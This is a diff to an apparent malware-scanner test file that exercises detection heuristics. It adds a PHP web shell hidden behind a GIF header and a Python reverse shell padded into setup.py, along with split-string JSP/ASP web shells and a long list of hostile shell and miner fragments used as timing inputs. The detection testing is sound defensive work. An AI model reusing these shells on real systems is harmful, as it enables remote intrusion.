@@ -1,30 +1,7 @@
-import { createHash } from 'node:crypto'
 import { describe, expect, it } from 'vitest'
-import { ThreatVerdict } from '#shared/domain/verdict.ts'
-import { identify } from '../../identify/identify.ts'
 import { suspicionsOf } from './heuristics.ts'
 import { base64Run } from './suspicion.ts'
-
-// Put together here, so that this file is no sample itself.
-const j = (...parts: string[]): string => parts.join('')
-const php = j('<?', 'php ')
-const noise = Array.from({ length: 40 }, (_, index) => createHash('sha512').update(`${index}`).digest('base64')).join(
-  '',
-)
-const blob = noise.replaceAll('=', '')
-const bigBlob = blob.repeat(3)
-
-function ask(content: string | Buffer, { name = 'file', path = '/home/x/file', depth = 0 } = {}): string[] {
-  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
-  const sha256 = createHash('sha256').update(bytes).digest()
-  const found = suspicionsOf({ bytes, sha256, format: identify(bytes), name, path, depth })
-  for (const { verdict, rule, detector } of found) {
-    expect(ThreatVerdict.exclude(['infected']).safeParse(verdict).success).toBe(true)
-    expect(detector).toBe('heuristic')
-    expect(rule?.description).toMatch(/\.$/)
-  }
-  return found.map(({ threat }) => threat.replace('Heuristic.', ''))
-}
+import { ask, bigBlob, blob, execute, j, php, sh } from './testing/ask.ts'
 
 const smuggler = (data: string, more = ''): string =>
   `<html><body>${more}<script>var d=atob("${data}");var b=new Blob([d]);var u=URL.${j('create', 'ObjectURL')}(b);` +
@@ -36,7 +13,7 @@ const positive: readonly (readonly [string, string, string])[] = [
   [
     'a JSP that runs a parameter',
     'Script.Webshell',
-    `<% Runtime.${j('get', 'Runtime')}().exec(request.getParameter("c")); %>`,
+    `<% Runtime.${j('get', 'Runtime')}().${execute}(request.getParameter("c")); %>`,
   ],
   ['an ASP page that evaluates a request', 'Script.Webshell', `<%${j('ev', 'al')} request("x")%>`],
   [
@@ -85,17 +62,18 @@ describe('is suspected:', () => {
     expect(ask(`# ${line.slice(11)}`, { name: '.bashrc' })).toEqual([])
   })
 
-  it('a macro that starts itself and then a program', () => {
-    const source = `Sub ${j('Auto', 'Open')}()\nCreateObject("${j('WScript', '.Shell')}").Run x\nEnd Sub`
-    expect(ask(source, { name: 'VBA/Module1', depth: 1 })).toEqual(['Macro.StartsProgram'])
-    expect(ask(source.replace('Auto', 'My'), { name: 'VBA/Module1', depth: 1 })).toEqual([])
-    expect(ask('Sub AutoOpen()\nMsgBox "Hello"\nEnd Sub', { name: 'VBA/Module1', depth: 1 })).toEqual([])
+  it('a server page behind the beginning of a picture', () => {
+    const page = `${php}@${j('ev', 'al')}($_POST["x"]); ?>`
+    expect(ask(`GIF89a${'\0'.repeat(40)}${page}`)).toEqual(['Script.Webshell'])
+    expect(ask(`GIF89a${'\0'.repeat(200_000)}${page}`)).toEqual(['Script.Webshell'])
+    expect(ask(`GIF89a${'\0'.repeat(40)}`)).toEqual([])
   })
 
-  it('a macro sheet that starts a program', () => {
-    const sheet = `<sheet><c><f>${j('EX', 'EC')}("calc")</f></c></sheet>`
-    expect(ask(sheet, { name: 'xl/macrosheets/sheet1.xml', depth: 1 })).toEqual(['Macro.SheetStartsProgram'])
-    expect(ask(sheet, { name: 'xl/worksheets/sheet1.xml', depth: 1 })).toEqual([])
+  it('a source that is padded, unlike a long text', () => {
+    const shell = `import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.${j('du', 'p2')}(s.fileno(),0)\n${j('pty', '.spawn')}("sh")\n`
+    const padded = shell + '# nothing\n'.repeat(3000)
+    expect(ask(padded, { name: 'setup.py' })).toEqual(['Script.ReverseShell'])
+    expect(ask(padded, { name: 'notes.txt' })).toEqual([])
   })
 })
 
@@ -132,18 +110,45 @@ it('a run of base64 is found wherever it begins', () => {
   }
 })
 
-it('text made to be slow is answered in a moment', () => {
-  const hostile = [
-    `echo ${'a'.repeat(79_000)}`,
-    `<?php ${'eval('.repeat(15_000)}`,
-    `${'exec 5<>/dev/tcp/'.repeat(4000)}`,
-    `powershell ${'-e '.repeat(20_000)} frombase64string iex`,
-    `<html>createobjecturl.click()"download"blob(uint8array${`${'A'.repeat(3999)} `.repeat(19)}`,
-    `#!/bin/sh\n${'nc '.repeat(26_000)}/bin/`,
-    `${'mkfifo '.repeat(11_000)}nc`,
-    `eval atob unescape fromcharcode chr base64 ${' '.repeat(70_000)}`,
-  ]
+it.each([
+  `echo ${'a'.repeat(79_000)}`,
+  `<?php ${'eval('.repeat(15_000)}`,
+  `${'exec 5<>/dev/tcp/'.repeat(4000)}`,
+  `powershell ${'-e '.repeat(20_000)} frombase64string iex`,
+  `<html>createobjecturl.click()"download"blob(uint8array${`${'A'.repeat(3999)} `.repeat(19)}`,
+  `<html>createobjecturl.click()"download"blob(uint8array${'data:image/png;base64,'.concat('A'.repeat(4000), ' ').repeat(19)}`,
+  `<html>createobjecturl.click()"download"blob(uint8array[${'1,'.repeat(30_000)}`,
+  `<html>createobjecturl.click()"download"blob(uint8array${`'${'A'.repeat(50)}'`.repeat(1500)}`,
+  `#!/bin/sh\n${'nc '.repeat(26_000)}/bin/ -e sh`,
+  `${'mkfifo '.repeat(11_000)}nc sh -i`,
+  `eval atob unescape fromcharcode chr base64 ${' '.repeat(70_000)}`,
+  `<?php ${'$a=$_get[1];'.repeat(6500)}`,
+  `<?php ${'$a=$_get[1];system('.repeat(4000)}`,
+  `<?php ${"$a='a'.'b';".repeat(7000)}`,
+  `<% ${'a=request.getparameter(b);exec('.repeat(2500)}`,
+  `<% ${`${j('define', 'class')}( cipher `.repeat(3500)}`,
+  `<% wscript.shell ${'.exec(request '.repeat(5000)}`,
+  `<% processstartinfo "cmd" ${'processstartinfo '.repeat(4500)}`,
+  `${'a=net.dial('.repeat(7000)} exec.command("${sh}") `,
+  `child_process net .pipe( ${'.connect(a '.repeat(7000)}`,
+  `tcpsocket ${'a=b.gets '.repeat(8500)}`,
+  `new socket( socket( getoutputstream getinputstream ${'processbuilder('.repeat(5000)}`,
+  `[::-1] lambda exec( ${'lambda a: '.repeat(8000)}${'A'.repeat(300)}`,
+  `base64_decode eval( ${'$a=base64_decode('.repeat(4500)}${'A'.repeat(300)}`,
+  `b64decode exec( ${'a=b64decode('.repeat(6500)}${'A'.repeat(300)}`,
+  `atob( ${'eval(atob('.repeat(7500)}${'A'.repeat(300)}`,
+  `exec( fromhex ${'exec(bytes('.repeat(7000)}`,
+  `fromcharcode ${'eval(string.fromcharcode('.repeat(3000)}${'1,'.repeat(1000)}`,
+  `(![]+[]) ${`${'[]()!+'.repeat(90)} `.repeat(140)}`,
+  `"donate-level": ${'"pools" "donate-level":'.repeat(3400)}`,
+  `xmrig -o ${'xmrig a '.repeat(9000)}`,
+  `sub autoopen() ${'createobject( wscript.shell '.repeat(2800)}`,
+  `sub autoopen() ${"  'x\n".repeat(15_000)}`,
+  `sub autoopen() ${' '.repeat(79_000)}`,
+  `${' '.repeat(79_000)}.pdf.exe`,
+])('text made to be slow is answered in a moment: %#', (text) => {
   const start = performance.now()
-  for (const text of hostile) ask(text, { name: 'VBA/x', depth: 1 })
-  expect(performance.now() - start).toBeLessThan(2000)
+  ask(text, { name: 'VBA/x', depth: 1 })
+  ask(text, { name: `${text.slice(0, 200)}.js` })
+  expect(performance.now() - start).toBeLessThan(1000)
 })
